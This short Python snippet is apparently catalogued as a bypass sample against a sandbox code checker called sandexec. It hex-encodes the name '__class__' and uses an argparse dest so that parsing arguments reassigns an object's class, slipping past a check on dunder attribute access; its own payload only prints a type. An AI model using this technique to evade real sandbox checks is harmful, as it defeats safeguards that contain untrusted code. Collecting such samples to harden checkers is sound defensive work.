# Source: black-box attack on sandexec's check, 2026-11-26; family: setattr by name through argparse dest/namespace
# Verified to run in sandexec-python:bookworm when unchecked.
import argparse
def s(h):
    return bytes.fromhex(h).decode()
class Box:
    pass
b = Box()
p = argparse.ArgumentParser()
p.add_argument("--v", dest=s("5f5f636c6173735f5f"), type=lambda _: argparse.Namespace)
p.parse_args(["--v", "x"], namespace=b)
print(type(b))
